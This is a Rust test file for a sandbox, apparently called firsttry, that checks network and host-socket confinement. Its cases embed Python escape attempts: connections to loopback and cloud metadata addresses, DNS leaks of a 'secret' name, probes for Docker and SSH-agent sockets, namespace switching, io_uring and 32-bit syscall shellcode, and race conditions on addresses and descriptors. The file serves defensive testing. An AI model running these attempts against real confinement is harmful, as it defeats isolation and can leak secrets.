//! Ways out over the network and to the host's sockets.

use super::{CASE, Case, Control, ended_well};
use crate::harness::Ran;
use firsttry::frame::{Frame, Verdict};

/// Whether the witness told of a refused attempt, and that it was this program's.
fn violated(ran: &Ran) -> Result<(), String> {
    ended_well(ran)?;
    let told = ran.frames.iter().any(|frame| match frame {
        Frame::Attempt { attempt } => attempt.verdict == Verdict::Denied && attempt.process.contains("ft-hostile-"),
        _ => false,
    });
    if told { Ok(()) } else { Err(format!("no violation was told: {:?}", ran.frames)) }
}

pub const CASES: &[Case] = &[
    Case {
        name: "tcp-to-this-machine",
        attack: "
attempt('own-address', lambda: tcp(ADDRESS, PORT))
attempt('any', lambda: tcp('0.0.0.0', PORT))
attempt('loopback', lambda: tcp('127.0.0.1', PORT))
attempt('other-loopback', lambda: tcp('127.0.0.2', PORT))
attempt('name', lambda: tcp('localhost', PORT))",
        walls: "own-address ENETUNREACH|ECONNREFUSED\nany ECONNREFUSED\nloopback ECONNREFUSED\nother-loopback ECONNREFUSED\nname ECONNREFUSED",
        control: Control::Plain("own-address ok\nany ok\nloopback ok\nother-loopback ok\nname ok"),
        harm: Some(|w, _| w.reached()),
        ..CASE
    },
    Case {
        name: "tcp-over-ipv6-and-mapped",
        attack: "
attempt('v6', lambda: tcp('::1', PORT, socket.AF_INET6))
attempt('mapped', lambda: tcp('::ffff:127.0.0.1', PORT, socket.AF_INET6))
attempt('mapped-own', lambda: tcp('::ffff:' + ADDRESS, PORT, socket.AF_INET6))
attempt('far', lambda: tcp('2001:db8::1', 80, socket.AF_INET6))",
        walls: "v6 ECONNREFUSED|EADDRNOTAVAIL\nmapped ECONNREFUSED\nmapped-own ENETUNREACH|ECONNREFUSED\nfar ENETUNREACH|EADDRNOTAVAIL",
        control: Control::Plain("v6 *\nmapped ok\nmapped-own ok\nfar *"),
        harm: Some(|w, _| w.reached()),
        check: violated,
        ..CASE
    },
    Case {
        name: "tcp-to-nowhere-and-metadata",
        attack: "
for host in ['192.0.2.1', '8.8.8.8', '169.254.169.254', '10.0.0.1', '100.100.100.200']:
    s = socket.socket(); s.setblocking(False)
    attempt(host, lambda: s.connect((host, 80)))
attempt('here', lambda: tcp(ADDRESS, PORT))",
        walls: "192.0.2.1 ENETUNREACH\n8.8.8.8 ENETUNREACH\n169.254.169.254 ENETUNREACH\n10.0.0.1 ENETUNREACH\n100.100.100.200 ENETUNREACH\nhere ENETUNREACH|ECONNREFUSED",
        control: Control::Plain("192.0.2.1 *\n8.8.8.8 *\n169.254.169.254 *\n10.0.0.1 *\n100.100.100.200 *\nhere ok"),
        harm: Some(|w, _| w.reached()),
        check: violated,
        ..CASE
    },
    Case {
        name: "udp-without-connect",
        attack: "
attempt('sendto', lambda: udp().sendto(b'x', (ADDRESS, UDP)))
attempt('sendmsg', lambda: udp().sendmsg([b'x'], [], 0, (ADDRESS, UDP)))
attempt('sendto6', lambda: udp(socket.AF_INET6).sendto(b'x', ('::ffff:' + ADDRESS, UDP)))
attempt('loopback', lambda: udp().sendto(b'x', ('127.0.0.1', UDP)))",
        walls: "sendto ENETUNREACH|ok\nsendmsg ENETUNREACH|ok\nsendto6 ENETUNREACH|ok\nloopback ok",
        control: Control::Plain("sendto ok\nsendmsg ok\nsendto6 ok\nloopback ok"),
        harm: Some(|w, _| w.told()),
        ..CASE
    },
    Case {
        name: "udp-connect-then-send",
        attack: "
s = udp()
attempt('connect', lambda: s.connect((ADDRESS, UDP)))
attempt('send', lambda: s.send(b'x'))
attempt('write', lambda: os.write(s.fileno(), b'x'))",
        walls: "connect ENETUNREACH|ok\nsend EDESTADDRREQ|ECONNREFUSED|ok\nwrite EDESTADDRREQ|ECONNREFUSED|ok",
        control: Control::Plain("connect ok\nsend ok\nwrite ok"),
        harm: Some(|w, _| w.told()),
        ..CASE
    },
    Case {
        name: "sendmmsg-with-one-allowed-and-one-denied",
        attack: "
class Io(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
class Message(ctypes.Structure): _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint32), ('iov', ctypes.c_void_p),
    ('iovlen', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t), ('flags', ctypes.c_int), ('pad', ctypes.c_uint32), ('sent', ctypes.c_uint32)]
text = ctypes.create_string_buffer(b'x'); io = Io(ctypes.addressof(text), 1)
def message(a): return Message(ctypes.addressof(a), 16, ctypes.addressof(io), 1, None, 0, 0, 0, 0)
allowed = udp(); allowed.bind(('127.0.0.1', 0))
both = [ctypes.create_string_buffer(address(h, p), 16) for h, p in [('127.0.0.1', allowed.getsockname()[1]), (ADDRESS, UDP)]]
vector = (Message * 2)(*map(message, both))
s = udp()
print('sent', raw(NR['sendmmsg'], s.fileno(), vector, 2, 0) >= 0)
print('sent-denied-first', raw(NR['sendmmsg'], s.fileno(), (Message * 2)(*map(message, both[::-1])), 2, 0) == 2)",
        walls: "sent *\nsent-denied-first *",
        control: Control::Plain("sent True\nsent-denied-first True"),
        harm: Some(|w, _| w.told()),
        ..CASE
    },
    Case {
        name: "a-name-and-a-question-to-a-name-server",
        attack: r"
question = b'\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x05leaks\x04test\0\0\x01\0\x01'
attempt('name', lambda: socket.getaddrinfo('secret.leaks.test', 80))
attempt('server', lambda: udp().sendto(question, ('8.8.8.8', 53)))
def over_tcp():
    s = socket.socket(); s.setblocking(False); s.connect(('8.8.8.8', 53))
attempt('tcp', over_tcp)
attempt('own-server', lambda: udp().sendto(question, (ADDRESS, UDP)))",
        walls: "name no-name\nserver ENETUNREACH\ntcp ENETUNREACH\nown-server ENETUNREACH|ok",
        control: Control::Plain("name *\nserver *\ntcp *\nown-server ok"),
        harm: Some(|w, _| w.told()),
        check: violated,
        ..CASE
    },
    Case {
        name: "broadcast-and-multicast",
        attack: "
s = udp(); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
attempt('broadcast', lambda: s.sendto(b'x', ('255.255.255.255', UDP)))
attempt('multicast', lambda: udp().sendto(b'x', ('224.0.0.1', UDP)))
attempt('directly', lambda: s.sendto(b'x', (ADDRESS, UDP)))",
        walls: "broadcast ENETUNREACH\nmulticast ENETUNREACH\ndirectly ENETUNREACH|ok",
        control: Control::Plain("broadcast *\nmulticast *\ndirectly ok"),
        harm: Some(|w, _| w.told()),
        check: violated,
        ..CASE
    },
    Case {
        name: "tcp-fast-open",
        attack: "
def fast(host):
    socket.socket().sendto(b'x', 0x20000000, (host, PORT))
attempt('own-address', lambda: fast(ADDRESS))
attempt('loopback', lambda: fast('127.0.0.1'))
def later():
    s = socket.socket(); s.settimeout(2); s.setsockopt(6, 30, 1); s.connect((ADDRESS, PORT)); s.send(b'x')
attempt('connect-later', later)",
        walls: "own-address ENETUNREACH|ECONNREFUSED\nloopback ECONNREFUSED\nconnect-later ENETUNREACH|ECONNREFUSED",
        // The broker does not perform it: programs that want it connect instead.
        here: "own-address ENETUNREACH|ENOTSUP\nloopback ENOTSUP\nconnect-later ENETUNREACH|ECONNREFUSED",
        control: Control::Plain("own-address ok\nloopback ok\nconnect-later ok"),
        harm: Some(|w, _| w.reached()),
        ..CASE
    },
    Case {
        name: "an-allowed-connection-is-taken-elsewhere",
        attack: "
server = socket.create_server(('127.0.0.1', 0))
s = tcp(*server.getsockname())
none = ctypes.create_string_buffer(struct.pack('=H14x', 0), 16)
call('disconnect', NR['connect'], s.fileno(), none, 16)
attempt('tcp-again', lambda: s.connect((ADDRESS, PORT)))
u = udp(); u.connect(server.getsockname())
call('udp-disconnect', NR['connect'], u.fileno(), none, 16)
attempt('udp-again', lambda: u.connect((ADDRESS, UDP)))
attempt('udp-send', lambda: u.send(b'x'))",
        walls: "disconnect ok\ntcp-again ENETUNREACH|ECONNREFUSED\nudp-disconnect ok\nudp-again ENETUNREACH|ok\nudp-send EDESTADDRREQ|ok",
        // The broker has no copy of a stream that was connected: it is connected once.
        here: "disconnect ok|EISCONN\ntcp-again EISCONN\nudp-disconnect ok\nudp-again ENETUNREACH|ok\nudp-send EDESTADDRREQ|ok",
        control: Control::Plain("disconnect ok\ntcp-again ok\nudp-disconnect ok\nudp-again ok\nudp-send ok"),
        harm: Some(|w, _| w.reached() && w.told()),
        ..CASE
    },
    Case {
        name: "unusual-protocols",
        attack: "
attempt('mptcp', lambda: tcp(ADDRESS, PORT, protocol=262))
attempt('sctp', lambda: tcp(ADDRESS, PORT, protocol=132))
attempt('dccp', lambda: socket.socket(socket.AF_INET, 6, 33))
attempt('udp-lite', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b'x', (ADDRESS, UDP)))
attempt('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', (ADDRESS, 0)))
attempt('tcp', lambda: tcp(ADDRESS, PORT))",
        walls: "mptcp EPROTONOSUPPORT\nsctp EPROTONOSUPPORT\ndccp EPROTONOSUPPORT\nudp-lite EPROTONOSUPPORT\nping EACCES|EPERM|ENETUNREACH\ntcp ENETUNREACH|ECONNREFUSED",
        control: Control::Plain("mptcp *\nsctp *\ndccp *\nudp-lite *\nping *\ntcp ok"),
        harm: Some(|w, _| w.reached()),
        ..CASE
    },
    Case {
        name: "raw-and-packet-sockets",
        attack: "
attempt('icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255))
attempt('raw6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt('packet-dgram', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM))",
        walls: "icmp EPERM\nraw EPERM\nraw6 EPERM\npacket EAFNOSUPPORT\npacket-dgram EAFNOSUPPORT",
        control: Control::Rights("icmp ok\nraw ok\nraw6 *\npacket *\npacket-dgram *"),
        ..CASE
    },
    Case {
        name: "unusual-families",
        attack: "
for name, family, kind, protocol in [('vsock', 40, 1, 0), ('alg', 38, 5, 0), ('bluetooth', 31, 3, 1), ('can', 29, 3, 1), ('rds', 21, 5, 0),
    ('tipc', 30, 2, 0), ('key', 15, 3, 2), ('xdp', 44, 3, 0), ('qrtr', 42, 2, 0), ('uevent', 16, 3, 15), ('generic', 16, 3, 16),
    ('netfilter', 16, 3, 12), ('audit', 16, 3, 9), ('route', 16, 3, 0)]:
    attempt(name, lambda: socket.socket(family, kind, protocol))",
        walls: "vsock EAFNOSUPPORT\nalg EAFNOSUPPORT\nbluetooth EAFNOSUPPORT\ncan EAFNOSUPPORT\nrds EAFNOSUPPORT\ntipc EAFNOSUPPORT\nkey EAFNOSUPPORT\nxdp EAFNOSUPPORT\nqrtr EAFNOSUPPORT\nuevent EAFNOSUPPORT\ngeneric EAFNOSUPPORT\nnetfilter EAFNOSUPPORT\naudit EAFNOSUPPORT\nroute ok",
        // What else there is depends on the kernel's configuration.
        control: Control::Plain("vsock *\nalg *\nbluetooth *\ncan *\nrds *\ntipc *\nkey *\nxdp *\nqrtr *\nuevent ok\ngeneric ok\nnetfilter *\naudit *\nroute ok"),
        ..CASE
    },
    Case {
        name: "pairs-of-unusual-families",
        attack: "
pair = (ctypes.c_int * 2)()
for name, family in [('vsock', 40), ('tipc', 30), ('inet', 2), ('netlink', 16), ('unix', 1), ('unix-high-bits', 1 | 1 << 32)]:
    call(name, NR['socketpair'], family, 1, 0, pair)",
        walls: "vsock EAFNOSUPPORT\ntipc EAFNOSUPPORT\ninet EAFNOSUPPORT\nnetlink EAFNOSUPPORT\nunix ok\nunix-high-bits ok",
        // No family but two has pairs; a kernel without the filter says so in words of its own.
        control: Control::Plain("vsock !EPERM\ntipc !EPERM\ninet ENOTSUP\nnetlink ENOTSUP|ESOCKTNOSUPPORT\nunix ok\nunix-high-bits ok"),
        ..CASE
    },
    Case {
        name: "io-uring-connects",
        attack: "
params = ctypes.create_string_buffer(120)
ring = call('setup', NR['io_uring_setup'], 4, params)
call('enter', NR['io_uring_enter'], max(ring, 0), 0, 0, 0, 0, 0)
call('register', NR['io_uring_register'], max(ring, 0), 8, 0, 0)
if ring >= 0:
    # struct io_uring_params: sq_off at 40 (tail 4, mask 8, array 24), cq_off at 80 (tail 4, cqes 20).
    number = lambda at: struct.unpack_from('=I', params.raw, at)[0]
    rings = mmap.mmap(ring, 4096, offset=0)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    s = socket.socket()
    to = ctypes.create_string_buffer(address(ADDRESS, PORT), 16)
    entries[:64] = struct.pack('=BBHiQQIIQQQQ', 16, 0, 0, s.fileno(), 16, ctypes.addressof(to), 0, 0, 7, 0, 0, 0)
    struct.pack_into('=I', rings, number(40 + 24), 0)
    struct.pack_into('=I', rings, number(40 + 4), 1)
    call('submit', NR['io_uring_enter'], ring, 1, 1, 1, 0, 0)
    print('connected', struct.unpack_from('=i', rings, number(80 + 20) + 8)[0])",
        walls: "setup ENOSYS\nenter ENOSYS\nregister ENOSYS",
        control: Control::Rights("setup ok\nenter *\nregister *\nsubmit ok\nconnected *"),
        ..CASE
    },
    #[cfg(target_arch = "x86_64")]
    Case {
        name: "calls-of-other-abis",
        attack: r"
def run(code):
    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(code)
    ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
# push rbx; mov eax, 20 (getpid of i386); int 0x80; pop rbx; ret
print('int-80', child(lambda: run(b'\x53\xb8\x14\0\0\0\xcd\x80\x5b\xc3')))
# push rbx; mov eax, 359 (socket of i386); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; pop rbx; ret
print('int-80-socket', child(lambda: run(b'\x53\xb8\x67\x01\0\0\xbb\x02\0\0\0\xb9\x01\0\0\0\x31\xd2\xcd\x80\x5b\xc3')))
call('x32-socket', 0x40000000 | 41, 2, 1, 0)
call('x32-connect', 0x40000000 | 42, 0, 0, 0)",
        walls: "int-80 -31\nint-80-socket -31\nx32-socket ENOSYS\nx32-connect ENOSYS",
        // A kernel without the 32-bit ABI faults; that of x32 is in hardly any.
        control: Control::Plain("int-80 0|-11\nint-80-socket 0|-11\nx32-socket *\nx32-connect *"),
        ..CASE
    },
    Case {
        name: "an-engines-socket-by-path",
        attack: "
os.symlink(ENGINE, 'link')
attempt('path', lambda: unix(ENGINE))
attempt('link', lambda: unix('link'))
attempt('proc-self-root', lambda: unix('/proc/self/root' + ENGINE))
attempt('proc-self-cwd', lambda: unix('/proc/self/cwd' + '/..' * 8 + ENGINE))
attempt('proc-1-root', lambda: unix('/proc/1/root' + ENGINE))
def relative():
    os.chdir(os.path.dirname(ENGINE)); unix(os.path.basename(ENGINE))
attempt('relative', relative)",
        walls: "path ENOENT|EACCES|EPERM\nlink ENOENT|EACCES|EPERM\nproc-self-root ENOENT|EACCES|EPERM\nproc-self-cwd ENOENT|EACCES|EPERM\nproc-1-root EACCES|ENOENT|EPERM\nrelative ENOENT|EACCES|EPERM",
        control: Control::Plain("path ok\nlink ok\nproc-self-root ok\nproc-self-cwd ok\nproc-1-root *\nrelative ok"),
        harm: Some(|w, _| w.engine_reached()),
        ..CASE
    },
    Case {
        name: "sockets-that-machines-have",
        attack: "
import glob
found = False
for pattern in ['/var/run/docker.sock', '/run/docker.sock', '/run/podman/*', '/run/containerd/*', '/run/dbus/*', '/run/systemd/*', '/run/snapd*',
    '/run/user/*/*', '/run/user/*/gnupg/*', '/tmp/.X11-unix/*', '/tmp/.ICE-unix/*', '/tmp/ssh-*/*', '/run/nscd/*', '/run/udev/*', '/dev/log', ENGINE]:
    for path in glob.glob(pattern):
        try:
            found |= stat.S_ISSOCK(os.stat(path).st_mode)
        except OSError: pass
print('found', found)
names = {line.split()[-1] for line in open('/proc/net/unix') if '@' in line}
print('abstract', any(ABSTRACT in name for name in names))",
        walls: "found False\nabstract False",
        here: "found *\nabstract *",
        control: Control::Plain("found True\nabstract True"),
        ..CASE
    },
    Case {
        name: "an-abstract-socket-of-the-host",
        attack: r"
attempt('stream', lambda: unix('\0' + ABSTRACT))
attempt('dgram', lambda: udp(socket.AF_UNIX).sendto(b'x', '\0' + ABSTRACT))
print('listed', ABSTRACT in open('/proc/net/unix').read())",
        walls: "stream ECONNREFUSED|EPERM|EACCES\ndgram ECONNREFUSED|EPERM|EACCES|EPROTOTYPE\nlisted False",
        here: "stream EPERM|EACCES|ECONNREFUSED\ndgram EPERM|EACCES|ECONNREFUSED|EPROTOTYPE\nlisted *",
        control: Control::Plain("stream ok\ndgram *\nlisted True"),
        harm: Some(|w, _| w.abstract_reached()),
        ..CASE
    },
    Case {
        name: "a-datagram-to-a-path-over-a-connected-pair",
        attack: "
left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
attempt('pair', lambda: left.sendto(b'x', LOG))
attempt('sendmsg', lambda: left.sendmsg([b'x'], [], 0, LOG))
attempt('fresh', lambda: udp(socket.AF_UNIX).sendto(b'x', LOG))
attempt('connect', lambda: unix(LOG, socket.SOCK_DGRAM).send(b'x'))",
        walls: "pair ENOENT|EACCES|EPERM\nsendmsg ENOENT|EACCES|EPERM\nfresh ENOENT|EACCES|EPERM\nconnect ENOENT|EACCES|EPERM",
        control: Control::Plain("pair ok\nsendmsg ok\nfresh ok\nconnect ok"),
        harm: Some(|w, _| w.logged()),
        ..CASE
    },
    Case {
        name: "an-inherited-connection",
        attack: "
# INHERITED: a connection of the caller's that every child of his gets.
sent = 0
for fd in range(3, 1024):
    try: sent += os.write(fd, b'x')
    except OSError: pass
print('sent', sent > 0)
print('beyond', any(int(fd) > 1023 for fd in os.listdir('/proc/self/fd')))",
        walls: "sent False\nbeyond False",
        control: Control::Plain("sent True\nbeyond False"),
        harm: Some(|w, _| w.leaked()),
        ..CASE
    },
    Case {
        name: "into-another-network-namespace",
        attack: "
attempt('open-1', lambda: os.open('/proc/1/ns/net', os.O_RDONLY))
own = os.open('/proc/self/ns/net', os.O_RDONLY)
call('setns', NR['setns'], own, 0x40000000)
pidfd = raw(NR['pidfd_open'], os.getpid(), 0)
call('setns-pidfd', NR['setns'], pidfd, 0x40000000)
call('unshare', NR['unshare'], 0x40000000)
call('unshare-user', NR['unshare'], 0x50000000)",
        walls: "open-1 EACCES|EPERM\nsetns EPERM\nsetns-pidfd EPERM\nunshare EPERM\nunshare-user EPERM",
        here: "open-1 *\nsetns EPERM\nsetns-pidfd EPERM\nunshare EPERM\nunshare-user EPERM",
        control: Control::Rights("open-1 ok\nsetns ok\nsetns-pidfd ok\nunshare ok\nunshare-user ok"),
        ..CASE
    },
    Case {
        name: "routes-interfaces-and-firewall",
        attack: "
def netlink(kind, flags, body):
    s = socket.socket(16, 3, 0)
    s.send(struct.pack('=IHHII', 16 + len(body), kind, flags | 5, 1, 0) + body)
    error = -struct.unpack_from('=i', s.recv(4096), 16)[0]
    if error: raise OSError(error, '')
# RTM_NEWLINK: the loopback goes down. RTM_NEWADDR: 192.0.2.9/32 on it. A dummy interface.
attempt('link-down', lambda: netlink(16, 0, struct.pack('=BxHiII', 0, 0, 1, 0, 1)))
attempt('address', lambda: netlink(20, 0x400, struct.pack('=BBBBiHH4s', 2, 32, 0, 0, 1, 8, 2, socket.inet_aton('192.0.2.9'))))
attempt('tun', lambda: os.open('/dev/net/tun', os.O_RDWR))
s = socket.socket()
attempt('mark', lambda: s.setsockopt(socket.SOL_SOCKET, 36, 7))
attempt('transparent', lambda: s.setsockopt(0, 19, 1))
attempt('queue-of-iptables', lambda: s.getsockopt(0, 64, 84))",
        walls: "link-down EPERM\naddress EPERM\ntun ENOENT|EACCES|EPERM\nmark EPERM\ntransparent EPERM\nqueue-of-iptables EPERM",
        control: Control::Rights("link-down ok\naddress ok\ntun *\nmark ok\ntransparent ok\nqueue-of-iptables !EPERM"),
        ..CASE
    },
    Case {
        name: "binding-to-the-machines-own-address",
        attack: "
def bind(host):
    s = socket.socket(); s.bind((host, 0)); s.listen()
attempt('own', lambda: bind(ADDRESS))
attempt('loopback', lambda: bind('127.0.0.1'))
reached = tcp if WALLS else None
attempt('takes-the-port', lambda: socket.create_server(('0.0.0.0', PORT)))",
        walls: "own EADDRNOTAVAIL|ok\nloopback ok\ntakes-the-port ok",
        here: "own *\nloopback ok\ntakes-the-port EADDRINUSE",
        control: Control::Plain("own ok\nloopback ok\ntakes-the-port EADDRINUSE"),
        ..CASE
    },
    Case {
        name: "an-address-that-changes-while-it-is-checked",
        // The two addresses are in memory that another process rewrites all the time.
        attack: "
import time
rounds = 100000 if WALLS else 2000
shared = mmap.mmap(-1, 4096)
good, bad = address('127.0.0.1', 9), address(ADDRESS, PORT)
good_udp, bad_udp = address('127.0.0.1', 9), address(ADDRESS, UDP)
shared[:16], shared[64:80] = good, good_udp
flipper = os.fork()
if flipper == 0:
    while True:
        shared[:16] = bad; shared[64:80] = bad_udp
        shared[:16] = good; shared[64:80] = good_udp
at = ctypes.addressof(ctypes.c_char.from_buffer(shared))
connected, s = 0, udp()
for n in range(rounds // 2):
    if not WALLS: time.sleep(0.0002)  # on a busy machine the other one would else have no turn
    t = socket.socket(); t.setblocking(False)
    connected += libc.syscall(ctypes.c_long(NR['connect']), t.fileno(), ctypes.c_void_p(at), 16) == 0
    t.close()
    libc.syscall(ctypes.c_long(NR['sendto']), s.fileno(), ctypes.c_char_p(b'x'), ctypes.c_size_t(1), 0, ctypes.c_void_p(at + 64), 16)
os.kill(flipper, 9)
print('rounds', n + 1)",
        walls: "rounds 50000",
        control: Control::Plain("rounds 1000"),
        harm: Some(|w, _| w.reached() | w.told()),
        cell: |_, m| m.timeout_ms = 1_500_000,
        ..CASE
    },
    Case {
        name: "a-descriptor-that-changes-while-it-is-checked",
        // clone(CLONE_FILES) without a thread: a sibling that is not held by the interpreter's lock puts a unix socket, a
        // TCP socket and a UDP socket over one and the same number.
        attack: "
rounds = 100000
number = 200
sockets = [socket.socket(socket.AF_UNIX), socket.socket(), udp()]
os.dup2(sockets[0].fileno(), number)
flipper = libc.syscall(ctypes.c_long(NR['clone']), ctypes.c_ulong(0x400 | 17), 0, 0, 0, 0)
if flipper == 0:
    while True:
        for s in sockets:
            try: os.dup2(s.fileno(), number)
            except OSError: os._exit(0)
to = [ctypes.create_string_buffer(address(ADDRESS, PORT), 16), ctypes.create_string_buffer(address(ADDRESS, UDP), 16)]
for n in range(rounds // 2):
    libc.syscall(ctypes.c_long(NR['connect']), number, to[n % 2], 16)
    libc.syscall(ctypes.c_long(NR['sendto']), number, ctypes.c_char_p(b'x'), ctypes.c_size_t(1), 0x40, to[1], 16)
os.kill(flipper, 9)
print('rounds', n + 1)",
        walls: "rounds 50000",
        control: Control::Plain("rounds 50000"),
        harm: Some(|w, _| w.reached() | w.told()),
        cell: |_, m| m.timeout_ms = 1_500_000,
        ..CASE
    },
    Case {
        name: "a-flood-of-attempts",
        attack: "
to = ctypes.create_string_buffer(address(ADDRESS, PORT), 16)
rounds = 20000 if WALLS else 100
through = 0
for n in range(rounds):
    if n % 1000 == 0: s = socket.socket()
    through += libc.syscall(ctypes.c_long(NR['connect']), s.fileno(), to, 16) == 0
print('through', through > 0)",
        walls: "through False",
        control: Control::Plain("through True"),
        harm: Some(|w, _| w.reached()),
        cell: |_, m| m.timeout_ms = 1_500_000,
        check: |ran| {
            ended_well(ran)?;
            // What is said of them is bounded, whatever their number.
            let frames = ran.frames.len();
            if frames < 5000 { Ok(()) } else { Err(format!("{frames} frames")) }
        },
        ..CASE
    },
    Case {
        name: "answering-for-itself",
        attack: "
# A filter that asks about getppid, and the flag that gives its listener.
program = ctypes.create_string_buffer(struct.pack('=HBBIHBBIHBBIHBBI', 0x20, 0, 0, 0, 0x15, 0, 1, NR['getppid'], 6, 0, 0, 0x7fc00000, 6, 0, 0, 0x7fff0000))
filter = ctypes.create_string_buffer(struct.pack('=H6xQ', 4, ctypes.addressof(program)))
libc.prctl(38, 1, 0, 0, 0)
call('listener', NR['seccomp'], 1, 8, filter)
call('with-more-flags', NR['seccomp'], 1, 8 | 1 | 16, filter)
# RECV, SEND, ID_VALID, ADDFD on whatever is there.
for name, request in [('receive', 0xc0502100), ('send', 0xc0182101), ('valid', 0x40082102), ('addfd', 0x40182103)]:
    call(name, NR['ioctl'], 1, request | 1 << 40, ctypes.create_string_buffer(256))",
        walls: "listener EPERM\nwith-more-flags EPERM\nreceive EPERM\nsend EPERM\nvalid EPERM\naddfd EPERM",
        control: Control::Plain("listener ok\nwith-more-flags *\nreceive ENOTTY|EINVAL\nsend ENOTTY|EINVAL\nvalid ENOTTY|EINVAL\naddfd ENOTTY|EINVAL"),
        ..CASE
    },
    Case {
        name: "a-proxy-is-no-way-around",
        attack: "
for name in ['http_proxy', 'HTTPS_PROXY', 'ALL_PROXY', 'no_proxy']: os.environ.pop(name, None)
def through(host):
    s = tcp(host, PORT); s.sendall(b'CONNECT 192.0.2.1:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')
attempt('loopback', lambda: through('127.0.0.1'))
attempt('own-address', lambda: through(ADDRESS))",
        walls: "loopback ECONNREFUSED\nown-address ENETUNREACH|ECONNREFUSED",
        control: Control::Plain("loopback ok\nown-address ok"),
        harm: Some(|w, _| w.reached()),
        ..CASE
    },
];
